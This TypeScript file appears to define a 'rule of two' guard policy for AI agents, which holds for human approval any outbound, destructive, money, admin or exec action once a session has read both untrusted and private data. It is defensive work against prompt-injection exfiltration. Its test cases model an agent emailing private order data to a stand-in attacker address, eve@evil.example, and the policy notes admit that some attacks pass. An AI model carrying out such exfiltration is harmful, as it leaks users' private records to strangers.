import { MARK_PRIVATE, MARK_UNTRUSTED } from './marking.ts'
import { casesOf, documentOf } from './policy-template.ts'
import type { PolicyTemplate } from './policy-template.ts'

const TITLE = 'Rule of two'

/** S2, after Meta's Agents Rule of Two (October 2025). */
export const RULE_OF_TWO: PolicyTemplate = {
  name: 'rule-of-two',
  title: TITLE,
  stops:
    'The three together that make an agent dangerous: it has read what strangers wrote, it has read private records, and now it would send, pay, delete, change rights or run something. Any two of them pass; the third waits for a person.',
  costs:
    'The friendliest of the taint policies, and the most open one. In the research replay of AgentDojo (a static estimate) the plain form of it met 33.7 % of benign tasks, 0.41 approvals a task, and let 33.9 % of the attacks through: those that change something without having read anything private. Take taint-no-sink where that matters.',
  attachedByDefault: false,
  document: documentOf(
    TITLE,
    [
      MARK_UNTRUSTED,
      MARK_PRIVATE,
      {
        id: 'ask-for-the-third',
        effect: 'ask',
        on: ['outbound'],
        when: {
          all: [
            { path: 'session.labels', op: 'hasAll', value: ['untrusted', 'private'] },
            {
              path: 'action.class',
              op: 'in',
              value: ['sink.external', 'destructive', 'money', 'admin', 'exec'],
            },
          ],
        },
        reason:
          'The session has read untrusted content and private records, and now it would act on the world.',
      },
    ],
    casesOf(
      {
        name: 'the third of the three is asked about',
        history: [
          { tool: 'get_issue', class: 'read.untrusted', result: { body: 'please help' } },
          { tool: 'get_order', class: 'read.private', result: { id: 'A-4711' } },
        ],
        call: { tool: 'send_email', class: 'sink.external', args: { to: 'eve@evil.example' } },
        expect: { decision: 'ask', rules: ['ask-for-the-third'] },
      },
      {
        name: 'two of the three pass',
        history: [{ tool: 'get_issue', class: 'read.untrusted', result: { body: 'please help' } }],
        call: { tool: 'send_email', class: 'sink.external', args: { to: 'eve@evil.example' } },
        expect: { decision: 'allow', rules: [] },
      },
      {
        name: 'private records mark the session',
        call: { tool: 'get_order', class: 'read.private', direction: 'inbound', content: { id: 'A-4711' } },
        expect: { decision: 'allow', rules: ['mark-private'], labels: ['private'] },
      },
    ),
  ),
}
